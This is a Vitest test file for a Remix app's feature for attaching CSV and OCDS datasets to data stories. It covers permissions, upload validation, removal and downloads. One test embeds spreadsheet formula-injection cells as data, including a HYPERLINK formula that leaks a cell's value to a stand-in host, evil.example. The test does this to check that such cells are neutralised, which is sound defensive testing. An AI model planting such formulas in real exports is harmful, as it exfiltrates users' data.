import { readFileSync } from "node:fs";

import { beforeAll, describe, expect, it } from "vitest";

import { db } from "~/db/client.server";
import { previewItemBody } from "~/models/item.server";
import { loader as itemLoader } from "~/routes/library.$slug";
import { loader as chartCsvLoader } from "~/routes/library.$slug_.charts.$file";
import { action as attachAction, loader as datasetsLoader } from "~/routes/library.$slug_.datasets";
import { loader as downloadLoader } from "~/routes/library.$slug_.datasets_.$file";
import { action as previewAction } from "~/routes/resources.item-preview";

import { createItem } from "../factories/items";
import { createUser, sessionCookieFor } from "../factories/users";
import {
  callAction,
  callLoader,
  callMultipartAction,
  headersOf,
  replyOf,
  statusOf,
  thrownResponse,
} from "../support/remix";

const CHART =
  "```chart\nkind: column\ntitle: Spend by financial year\ndataset: spend.csv\nlabel: Month\nvalues: Total\ngroup: financial-year\nunits: gbp\nzero-means-missing: true\n```";
const PROVENANCE = {
  title: "Cabinet Office spend over £25,000",
  publisher: "Cabinet Office",
  source_url: "https://github.com/odileeds/council-spending",
  licence: "Open Government Licence v3.0",
  attribution: "Contains public sector information licensed under the Open Government Licence v3.0",
};

// The people are shared; what the tests change (a story and its datasets) is each test's own.
let moderatorCookie: string;
let authorCookie: string;
let strangerCookie: string;
let authorId: string;

beforeAll(async () => {
  moderatorCookie = await sessionCookieFor((await createUser({ role: "moderator" })).id);
  authorId = (await createUser()).id;
  authorCookie = await sessionCookieFor(authorId);
  strangerCookie = await sessionCookieFor((await createUser()).id);
});

/** A data story of this test's own, whose chart reads spend.csv, credited to a member who may attach datasets. */
async function spendStory() {
  const { slug } = await createItem({
    type: "data-story",
    body: `## Spend\n\nBefore the chart.\n\n${CHART}\n\nAfter the chart.\n`,
  });
  await db.updateTable("authors").set({ user_id: authorId }).where("slug", "=", "test-author").execute();
  return { slug };
}

function upload({
  cookie,
  file,
  fields = PROVENANCE,
  slug,
}: {
  cookie: string;
  file?: File;
  fields?: Record<string, string>;
  slug: string;
}) {
  const form = new FormData();
  for (const [name, value] of Object.entries(fields)) form.append(name, value);
  if (file) form.append("file", file);
  return callMultipartAction(attachAction, `/library/${slug}/datasets`, form, {
    params: { slug },
    headers: { Cookie: cookie },
  });
}

const spendFile = (name = "Spend Over 25k.csv") =>
  new File([readFileSync("content/data/cabinet-office-spend-over-25k-monthly.csv")], name, { type: "text/csv" });

const ocdsFile = () =>
  new File([readFileSync("content/data/ocds-fictional-barnet-cycle-lanes.json")], "barnet.json", {
    type: "application/json",
  });

async function attach(slug: string, file: File, cookie = moderatorCookie) {
  const response = await upload({ cookie, file, slug });
  expect(statusOf(response)).toBe(302);
}

const datasetNames = async (slug: string) =>
  (
    await db
      .selectFrom("datasets")
      .innerJoin("items", "items.id", "datasets.item_id")
      .select("datasets.file_name")
      .where("items.slug", "=", slug)
      .orderBy("datasets.id")
      .execute()
  ).map((row) => row.file_name);

/** The reply to a refused upload: each field's message, and the text fields as sent. */
function errorsOf(response: unknown) {
  expect(statusOf(response)).toBe(400);
  const reply = replyOf(response);
  const values: Record<string, string> = {};
  for (const name of ["title", "publisher", "source_url", "licence", "attribution"]) {
    const value = reply.valueOf(name);
    if (value !== undefined) values[name] = value;
  }
  return { errors: reply.fieldErrors(), values };
}

describe("who may attach datasets", () => {
  it("sends someone signed out to sign in", async () => {
    const { slug } = await spendStory();
    const response = await thrownResponse(() => callLoader(datasetsLoader, `/library/${slug}/datasets`, { slug }));
    expect(statusOf(response)).toBe(302);
    expect(headersOf(response).get("Location")).toBe(
      `/sign-in?redirectTo=${encodeURIComponent(`/library/${slug}/datasets`)}`,
    );
  });

  it("refuses a member who is not one of the story's authors", async () => {
    const { slug } = await spendStory();
    const response = await thrownResponse(() => upload({ cookie: strangerCookie, file: spendFile(), slug }));
    expect(statusOf(response)).toBe(403);
    const page = await thrownResponse(() =>
      callLoader(datasetsLoader, `/library/${slug}/datasets`, { slug }, { headers: { Cookie: strangerCookie } }),
    );
    expect(statusOf(page)).toBe(403);
    expect(await datasetNames(slug)).toEqual([]);
  });

  it("has no datasets page for items that are not data stories", async () => {
    const { slug } = await createItem({ type: "tip" });
    const response = await thrownResponse(() =>
      callLoader(datasetsLoader, `/library/${slug}/datasets`, { slug }, { headers: { Cookie: moderatorCookie } }),
    );
    expect(statusOf(response)).toBe(404);
  });
});

describe("attaching a dataset", () => {
  it("shows the chart's problem until its dataset is attached", async () => {
    const { slug } = await spendStory();
    const item = await callLoader(itemLoader, `/library/${slug}`, { slug });
    expect(item.item.bodyHtml).toContain("Chart 1 could not be drawn");
    expect(item.item.bodyHtml).toContain("<p>After the chart.</p>");
    const page = await callLoader(
      datasetsLoader,
      `/library/${slug}/datasets`,
      { slug },
      { headers: { Cookie: authorCookie } },
    );
    expect(page.chartProblems).toEqual([
      {
        position: 1,
        line: 5,
        message: 'dataset: "spend.csv" is not attached to this story. No datasets are attached yet: attach one first.',
      },
    ]);
  });

  it("stores the file under a tidy name with its checksum, draws the chart, and redirects", async () => {
    const { slug } = await spendStory();
    const response = await upload({ cookie: authorCookie, file: spendFile(), slug });
    expect(response).toBeInstanceOf(Response);
    expect(statusOf(response)).toBe(302);
    expect(headersOf(response).get("Location")).toBe(`/library/${slug}/datasets?attached=spend-over-25k.csv`);

    const page = await callLoader(
      datasetsLoader,
      `/library/${slug}/datasets?attached=spend-over-25k.csv`,
      { slug },
      { headers: { Cookie: authorCookie } },
    );
    expect(page.attached).toMatchObject({
      fileName: "spend-over-25k.csv",
      sha256: "de3a728d025ee8d0c937689b0b9ea84a2b7efa28bf697e3f5851a668af5585de",
      sizeBytes: 27_878,
      format: "csv",
      notes: ['spend-over-25k.csv, line 1: repaired mis-encoded text ("Â£" read as "£").'],
    });
    // The story names spend.csv, so its chart still cannot be drawn, and says so.
    expect(page.chartProblems[0]!.message).toContain('Attached datasets: "spend-over-25k.csv"');
  });

  it("draws the story's chart once a dataset with the name it uses is attached", async () => {
    const { slug } = await spendStory();
    await attach(slug, spendFile("spend.csv"));
    const { item, datasets, canEdit } = await callLoader(itemLoader, `/library/${slug}`, { slug });
    expect(item.bodyHtml).toContain(
      '<figcaption class="chart__caption"><span class="chart__number">Chart 1:</span> Spend by financial year</figcaption>',
    );
    expect(item.bodyHtml).not.toContain("chart-error");
    expect(datasets.map((dataset) => [dataset.fileName, dataset.attribution])).toEqual([
      ["spend.csv", PROVENANCE.attribution],
    ]);
    expect(canEdit).toBe(false);
  });

  it("previews a change with the attached datasets, exactly as it would be saved", async () => {
    const { slug } = await spendStory();
    await attach(slug, spendFile("spend.csv"));
    const body = `${CHART.replace("Spend by financial year", "Spend, previewed")}\n\n\`\`\`chart\nkind: bar\ntitle: Broken\ndataset: spend.csv\nlabel: Month\nvalues: Nope\n\`\`\``;
    const preview = await previewItemBody({ slug, body });
    expect(preview.html).toContain("Chart 1:</span> Spend, previewed</figcaption>");
    expect(preview.chartProblems).toEqual([
      { position: 2, line: 12, message: expect.stringContaining('values: "Nope" is not a column of "spend.csv"') },
    ]);
    const stored = await db.selectFrom("items").select("body_html").where("slug", "=", slug).executeTakeFirstOrThrow();
    expect(stored.body_html).not.toContain("previewed");
  });

  it("draws the live preview's charts from the item's datasets, for those who may edit it", async () => {
    const { slug } = await spendStory();
    await attach(slug, spendFile("spend.csv"));
    const body = CHART.replace("Spend by financial year", "Spend, live");
    const preview = (cookie: string) =>
      previewAction({
        request: new Request("http://localhost:3000/resources/item-preview", {
          method: "POST",
          body: new URLSearchParams({ body, slug }),
          headers: { Cookie: cookie, "Content-Type": "application/x-www-form-urlencoded" },
        }),
        params: {},
        context: { requestId: "test", setCookies: [] },
      }).then((response) => response.json() as Promise<{ html: string }>);

    expect((await preview(authorCookie)).html).toContain("Chart 1:</span> Spend, live</figcaption>");
    // Someone who may not edit the story gets the plain render: no data of the story's is read.
    expect((await preview(strangerCookie)).html).not.toContain("Spend, live</figcaption>");
  });

  it("strips contact points from an OCDS upload and says so", async () => {
    const { slug } = await spendStory();
    const response = await upload({ cookie: moderatorCookie, file: ocdsFile(), slug });
    expect(headersOf(response).get("Location")).toBe(`/library/${slug}/datasets?attached=barnet.json`);
    const page = await callLoader(
      datasetsLoader,
      `/library/${slug}/datasets?attached=barnet.json`,
      { slug },
      { headers: { Cookie: moderatorCookie } },
    );
    expect(page.attached?.notes).toEqual([
      "Removed 12 contact points (names, emails, phone numbers) before storing barnet.json.",
    ]);
    const download = await callLoader(downloadLoader, `/library/${slug}/datasets/barnet.json`, {
      slug,
      file: "barnet.json",
    });
    expect(await download.text()).not.toMatch(/contactPoint|telephone/);
  });
});

describe("bad uploads", () => {
  // Issue 13, item 12: JSON.parse keeps the last "parties", so the first one's contact point was
  // never stripped, yet it was stored in the original bytes and served.
  it("refuses OCDS that names a key twice, storing nothing, so no contact point can hide in the first copy", async () => {
    const release = (parties: string) =>
      `{"ocid":"ocds-x-1","id":"1","date":"2024-01-01","tag":["award"],"parties":${parties},"buyer":{"name":"Council"},"parties":[{"id":"b","name":"Council"}]}`;
    const json = `{"releases":[${release('[{"id":"b","name":"Council","contactPoint":{"email":"officer@council.example"}}]')}]}`;
    const { slug } = await spendStory();
    const { errors } = errorsOf(
      await upload({
        cookie: moderatorCookie,
        file: new File([json], "twice.json", { type: "application/json" }),
        slug,
      }),
    );
    expect(errors.file).toBe(
      'twice.json, line 1: releases[0] has "parties" twice, and only one of them would be read. Keep one.',
    );
    const stored = await db.selectFrom("datasets").select("file_name").where("file_name", "=", "twice.json").execute();
    expect(stored).toEqual([]);
  });

  it("refuses JSON nested 10,000 deep with a message, not a server error", async () => {
    const deep = `{"releases":[{"ocid":"ocds-x-1","extra":${"[".repeat(10_000)}${"]".repeat(10_000)}}]}`;
    const { slug } = await spendStory();
    const { errors } = errorsOf(await upload({ cookie: moderatorCookie, file: new File([deep], "deep.json"), slug }));
    expect(errors.file).toBe(
      "deep.json nests lists and objects more than 64 deep (line 1), far deeper than OCDS does. Check that it is an OCDS release or record package.",
    );
  });

  it("says which line of a ragged CSV is wrong, and keeps what was typed", async () => {
    const { slug } = await spendStory();
    const file = new File(["Month,Total\n2020-01,5\n2020-02,6,7\n"], "ragged.csv");
    const { errors, values } = errorsOf(await upload({ cookie: moderatorCookie, file, slug }));
    expect(errors).toEqual({
      file: "ragged.csv, line 3: this row has 3 cells, but the header has 2 columns. Check for a missing or extra comma, or an unquoted comma inside a value.",
    });
    expect(values).toEqual(PROVENANCE);
  });

  it("says JSON that is not OCDS is not OCDS", async () => {
    const { slug } = await spendStory();
    const { errors } = errorsOf(
      await upload({ cookie: moderatorCookie, file: new File(['{"rows": []}'], "data.json"), slug }),
    );
    expect(errors.file).toBe('data.json is JSON but not an OCDS package: it has no "releases" or "records" list.');
  });

  it("refuses 5 MB of junk with a CSV name, saying it is not a CSV file", async () => {
    const { slug } = await spendStory();
    const junk = new Uint8Array(5 * 1024 * 1024);
    for (let i = 0; i < junk.length; i += 1) junk[i] = (i * 31) % 256;
    const { errors } = errorsOf(await upload({ cookie: moderatorCookie, file: new File([junk], "junk.csv"), slug }));
    expect(errors.file).toMatch(/^junk\.csv does not look like a CSV file: it contains binary data/);
  });

  it("refuses a file over 5 MB, keeping the other fields", async () => {
    const { slug } = await spendStory();
    const big = new Uint8Array(5 * 1024 * 1024 + 1).fill(0x31);
    const { errors, values } = errorsOf(
      await upload({ cookie: moderatorCookie, file: new File([big], "big.csv"), slug }),
    );
    expect(errors.file).toBe(
      "The file is larger than 5 MB. Attach a smaller extract, or link to the full file in the story.",
    );
    expect(values.title).toBe(PROVENANCE.title);
  });

  it("asks for the provenance fields and a file", async () => {
    const { slug } = await spendStory();
    const { errors } = errorsOf(
      await upload({
        cookie: moderatorCookie,
        fields: { ...PROVENANCE, title: "", source_url: "ftp://example.org" },
        slug,
      }),
    );
    expect(errors).toEqual({
      title: "this cannot be empty",
      source_url: "use a full web address starting https://",
      file: "Choose a CSV or OCDS JSON file to attach.",
    });
  });

  it("refuses other kinds of file", async () => {
    const { slug } = await spendStory();
    const { errors } = errorsOf(
      await upload({ cookie: moderatorCookie, file: new File(["%PDF-1.4"], "report.pdf"), slug }),
    );
    expect(errors.file).toBe(
      "report.pdf is neither a .csv file nor an OCDS .json file. Attach a CSV, or an OCDS release or record package.",
    );
  });

  it("leaves the story's datasets as they were", async () => {
    const { slug } = await spendStory();
    await attach(slug, spendFile("spend.csv"));
    errorsOf(await upload({ cookie: moderatorCookie, file: new File(["Month\n1,2\n"], "spend.csv"), slug }));
    errorsOf(await upload({ cookie: moderatorCookie, file: new File(["%PDF-1.4"], "report.pdf"), slug }));
    expect(await datasetNames(slug)).toEqual(["spend.csv"]);
    const stored = await db
      .selectFrom("datasets")
      .select("sha256")
      .where("file_name", "=", "spend.csv")
      .where("item_id", "=", db.selectFrom("items").select("id").where("slug", "=", slug))
      .executeTakeFirstOrThrow();
    expect(stored.sha256).toBe("de3a728d025ee8d0c937689b0b9ea84a2b7efa28bf697e3f5851a668af5585de");
  });
});

describe("removing a dataset", () => {
  it("removes an uploaded dataset, and the chart that used it says so again", async () => {
    const { slug } = await spendStory();
    await attach(slug, spendFile("spend.csv"));
    await attach(slug, ocdsFile());
    const response = await callAction(
      attachAction,
      `/library/${slug}/datasets`,
      { intent: "remove", fileName: "spend.csv" },
      { params: { slug }, headers: { Cookie: authorCookie } },
    );
    expect(statusOf(response)).toBe(302);
    expect(headersOf(response).get("Location")).toBe(`/library/${slug}/datasets?removed=spend.csv`);
    const page = await callLoader(
      datasetsLoader,
      `/library/${slug}/datasets?removed=spend.csv`,
      { slug },
      { headers: { Cookie: authorCookie } },
    );
    expect(page.removed).toBe("spend.csv");
    expect(page.datasets.map((dataset) => dataset.fileName)).toEqual(["barnet.json"]);
    expect(page.chartProblems[0]!.message).toContain('dataset: "spend.csv" is not attached to this story.');
    const chart = await db
      .selectFrom("item_charts")
      .innerJoin("items", "items.id", "item_charts.item_id")
      .select("position")
      .where("items.slug", "=", slug)
      .execute();
    expect(chart).toEqual([]);
  });

  it("says why a dataset from a content file cannot be removed here, and refuses strangers", async () => {
    const { slug } = await spendStory();
    await attach(slug, spendFile("spend.csv"));
    await attach(slug, ocdsFile());
    await db.updateTable("datasets").set({ origin: "content" }).where("file_name", "=", "barnet.json").execute();
    const response = await callAction(
      attachAction,
      `/library/${slug}/datasets`,
      { intent: "remove", fileName: "barnet.json" },
      { params: { slug }, headers: { Cookie: moderatorCookie } },
    );
    expect(errorsOf(response).errors).toEqual({
      remove: "barnet.json comes from the story's content file: remove it from datasets: in content/ and import again.",
    });
    const refused = await thrownResponse(() =>
      callAction(
        attachAction,
        `/library/${slug}/datasets`,
        { intent: "remove", fileName: "spend.csv" },
        { params: { slug }, headers: { Cookie: strangerCookie } },
      ),
    );
    expect(statusOf(refused)).toBe(403);
    expect(await datasetNames(slug)).toEqual(["spend.csv", "barnet.json"]);
  });
});

describe("downloads", () => {
  const get = (
    loader: typeof downloadLoader,
    path: string,
    params: Record<string, string>,
    headers: Record<string, string> = {},
  ) => callLoader(loader, path, params, { headers });

  it("serves a dataset byte for byte, as an attachment, with its checksum as the ETag", async () => {
    const { slug } = await spendStory();
    await attach(slug, spendFile("spend.csv"));
    const response = await get(downloadLoader, `/library/${slug}/datasets/spend.csv`, { slug, file: "spend.csv" });
    expect(statusOf(response)).toBe(200);
    expect(headersOf(response).get("Content-Type")).toBe("text/csv; charset=utf-8");
    expect(headersOf(response).get("Content-Disposition")).toBe('attachment; filename="spend.csv"');
    expect(headersOf(response).get("ETag")).toBe('"de3a728d025ee8d0c937689b0b9ea84a2b7efa28bf697e3f5851a668af5585de"');
    expect(headersOf(response).get("Cache-Control")).toBe("public, max-age=300, must-revalidate");
    expect(
      Buffer.from(await response.arrayBuffer()).equals(
        readFileSync("content/data/cabinet-office-spend-over-25k-monthly.csv"),
      ),
    ).toBe(true);

    const again = await get(
      downloadLoader,
      `/library/${slug}/datasets/spend.csv`,
      { slug, file: "spend.csv" },
      { "If-None-Match": headersOf(response).get("ETag")! },
    );
    expect(statusOf(again)).toBe(304);
  });

  it("serves the numbers behind a chart as CSV", async () => {
    const { slug } = await spendStory();
    await attach(slug, spendFile("spend.csv"));
    const response = await get(chartCsvLoader, `/library/${slug}/charts/1.csv`, { slug, file: "1.csv" });
    expect(headersOf(response).get("Content-Type")).toBe("text/csv; charset=utf-8");
    expect(headersOf(response).get("Content-Disposition")).toBe(`attachment; filename="${slug}-chart-1.csv"`);
    const csv = await response.text();
    expect(csv.split("\r\n").slice(0, 2)).toEqual(["Financial year,Total (£)", "2010-11,383628496.78"]);
    expect(csv).toContain("2020-21,1407086083.78");
  });

  // Issue 13, item 11: a label like =HYPERLINK(...) went out as a formula.
  it("neutralises cells a spreadsheet would read as formulas, keeping negative numbers, even in charts drawn before", async () => {
    const slug = "formula-labels";
    const csv = [
      "Label,Change",
      '"=HYPERLINK(""https://evil.example/?leak=""&A1,""Invoice"")",-5',
      "@SUM(1+1),10",
      "+cmd,2.5",
      "Plain,-0.25",
    ].join("\n");
    await createItem({
      type: "data-story",
      slug,
      body: `\`\`\`chart\nkind: line\ntitle: Changes\nlabel: Label\nvalues: Change\ncsv: |\n${csv
        .split("\n")
        .map((line) => `  ${line}`)
        .join("\n")}\n\`\`\``,
    });
    const expected = [
      "Label,Change",
      `"'=HYPERLINK(""https://evil.example/?leak=""&A1,""Invoice"")",-5`,
      "'@SUM(1+1),10",
      "'+cmd,2.5",
      "Plain,-0.25",
      "",
    ].join("\r\n");
    const download = () => get(chartCsvLoader, `/library/${slug}/charts/1.csv`, { slug, file: "1.csv" });
    expect(await (await download()).text()).toBe(expected);

    // A chart stored before this change still has the formulas in its row.
    const { id } = await db.selectFrom("items").select("id").where("slug", "=", slug).executeTakeFirstOrThrow();
    await db
      .updateTable("item_charts")
      .set({ csv: `${csv.replace(/\n/g, "\r\n")}\r\n` })
      .where("item_id", "=", id)
      .execute();
    expect(await (await download()).text()).toBe(expected);
  });

  it.each([
    ["a dataset that is not there", downloadLoader, "datasets/nope.csv", "nope.csv"],
    ["a chart that is not there", chartCsvLoader, "charts/9.csv", "9.csv"],
    ["a chart address that is not a number", chartCsvLoader, "charts/x.csv", "x.csv"],
  ])("answers 404 for %s", async (_, loader, page, file) => {
    const { slug } = await spendStory();
    await attach(slug, spendFile("spend.csv"));
    const response = await thrownResponse(() => get(loader, `/library/${slug}/${page}`, { slug, file }));
    expect(statusOf(response)).toBe(404);
  });

  it("answers 404 for a story that is not there", async () => {
    const response = await thrownResponse(() =>
      get(downloadLoader, "/library/nope/datasets/spend.csv", { slug: "nope", file: "spend.csv" }),
    );
    expect(statusOf(response)).toBe(404);
  });
});
